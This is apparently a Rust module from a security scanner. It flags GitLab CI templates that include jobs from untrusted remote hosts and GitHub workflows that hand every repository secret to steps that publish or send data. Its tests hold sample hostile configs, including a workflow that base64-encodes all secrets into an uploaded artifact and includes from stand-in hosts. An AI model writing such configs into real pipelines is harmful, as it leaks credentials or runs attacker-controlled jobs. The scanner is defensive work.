//! CI configuration a skill ships as a template: a GitLab pipeline that takes its jobs from a
//! host nobody vouches for (`remote-code-in-script`), and a GitHub workflow that serialises every
//! repository secret into a step that publishes or sends (`exfiltration`).

use super::Finding;
use super::credentials::SEND;
use super::net::{Place, place_in};
use super::pattern::Pattern;
use super::text::{Kind, Text, excerpt};
use crate::rulebook::{EXFILTRATION, REMOTE_CODE_IN_SCRIPT};
use skill_model::Span;
use std::sync::LazyLock;

/// A GitLab include of a file by address (`- remote: 'https://…'`, `include: 'https://…'`).
static REMOTE_INCLUDE: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::new(
        r#"(?m)^[[:space:]]*(?:-[[:space:]]*)?(?:remote|include)[[:space:]]*:[[:space:]]*['"]?(https?://[^'"[:space:]]+)"#,
    )
    .expect("a valid include pattern")
});

/// Hosts that serve a project's own files: an include from there is the project's published
/// template, read where it is published.
const TEMPLATE_HOSTS: &[&str] = &[
    "gitlab.com",
    "github.com",
    "raw.githubusercontent.com",
    "bitbucket.org",
];

/// Every secret of a repository as one value (`${{ toJSON(secrets) }}`).
static ALL_SECRETS: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::new(r"(?i)tojson\([[:space:]]*secrets[[:space:]]*\)").expect("a valid secrets pattern")
});

/// What a GitHub workflow publishes: an artifact, a release asset, a cache anyone may restore.
static PUBLISHES: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::new(r"(?i)actions/upload-artifact|gh[[:space:]]+release[[:space:]]+(?:create|upload)|softprops/action-gh-release|actions/cache")
        .expect("a valid publish pattern")
});

/// Flags the CI templates above in a data file (YAML, a workflow).
pub(crate) fn check_pipelines(text: &Text, out: &mut Vec<Finding>) {
    if text.kind != Kind::Data {
        return;
    }
    // GitLab's `include:` is a top-level key of the pipeline.
    if text.text.starts_with("include:") || text.text.contains("\ninclude:") {
        remote_includes(text, out);
    }
    if text.text.contains("secrets") && ALL_SECRETS.is_match(text.text) {
        secrets_published(text, out);
    }
}

/// A pipeline include from a host that is neither a source host nor this network: its jobs
/// run with the project's CI variables (deploy keys, registry tokens) and change whenever that
/// host changes them.
fn remote_includes(text: &Text, out: &mut Vec<Finding>) {
    for caps in REMOTE_INCLUDE.captures_iter(text.text) {
        let Some(url) = caps.get(1) else { continue };
        let host = match place_in(url.as_str()) {
            Place::Https { host, .. } => host,
            Place::Http { .. } | Place::Ip { .. } => super::net::host_of(url.as_str()),
            Place::Local { .. } | Place::Unknown => continue,
        };
        if TEMPLATE_HOSTS
            .iter()
            .any(|h| host == *h || host.ends_with(&format!(".{h}")))
        {
            continue;
        }
        let line = text.line_at(url.start());
        out.push(text.finding(
            &REMOTE_CODE_IN_SCRIPT,
            Span::new(url.start(), url.end()),
            format!(
                "takes pipeline jobs from {host}: `{}`",
                excerpt(&text.text[line])
            ),
            "an included file's jobs run with the project's CI variables (deploy keys, registry \
             tokens), and whoever controls that host changes them at will",
            "keep the jobs in the template itself, or include a project's published template by \
             `project:` and a pinned `ref:`",
        ));
    }
}

/// A workflow that hands every secret to a step (`env: X: ${{ toJSON(secrets) }}`) and
/// publishes or sends: GitHub masks each secret in logs, not an encoded copy in an artifact.
fn secrets_published(text: &Text, out: &mut Vec<Finding>) {
    let leaves = PUBLISHES.is_match(text.text) || text.each_line().any(|(_, l)| SEND.is_match(l));
    if !leaves {
        return;
    }
    for m in ALL_SECRETS.find_iter(text.text) {
        let line = text.line_at(m.start());
        out.push(text.finding(
            &EXFILTRATION,
            Span::new(m.start(), m.end()),
            format!(
                "hands every repository secret to a workflow that publishes or sends: `{}`",
                excerpt(&text.text[line])
            ),
            "GitHub masks each secret in logs, not an encoded copy of all of them in an artifact, \
             a release or a request: whoever can read what the workflow publishes gets them all",
            "give each step only the secret it uses (`${{ secrets.NAME }}`)",
        ));
    }
}

/// Compiles the patterns of this file now (see [`super::preload`]).
pub(super) fn compile() {
    for pattern in [&REMOTE_INCLUDE, &ALL_SECRETS, &PUBLISHES] {
        LazyLock::force(pattern);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(path: &str, text: &str) -> Vec<&'static str> {
        super::super::codes_of(path, text, &[check_pipelines])
    }

    #[test]
    fn a_pipeline_that_takes_its_jobs_from_a_host_nobody_vouches_for() {
        let ci = "include:\n  - remote: 'https://ci-templates.cdn.example/security.yml'\n";
        assert_eq!(codes("templates/gitlab-ci.yml", ci), ["SK920"]);
        let short = "include: 'http://198.51.100.4/ci.yml'\n";
        assert_eq!(codes("templates/gitlab-ci.yml", short), ["SK920"]);
        let gitlab = "include:\n  - remote: 'https://gitlab.com/group/ci/-/raw/v1.2.0/build.yml'\n";
        assert!(codes("templates/gitlab-ci.yml", gitlab).is_empty());
        let project = "include:\n  - project: 'group/ci'\n    ref: v1.2.0\n    file: build.yml\n";
        assert!(codes("templates/gitlab-ci.yml", project).is_empty());
    }

    #[test]
    fn every_secret_handed_to_a_workflow_that_publishes_is_exfiltration() {
        let workflow = "jobs:\n  b:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: echo \"$ALL\" | base64 > dist/ctx\n      - uses: actions/upload-artifact@v4\n        with:\n          path: dist/\n";
        assert_eq!(codes(".github/workflows/b.yml", workflow), ["SK908"]);
        let kept = workflow.replace("actions/upload-artifact@v4", "actions/setup-node@v4");
        assert!(codes(".github/workflows/b.yml", &kept).is_empty());
        let one = workflow.replace("toJSON(secrets)", "secrets.NPM_TOKEN");
        assert!(codes(".github/workflows/b.yml", &one).is_empty());
    }
}
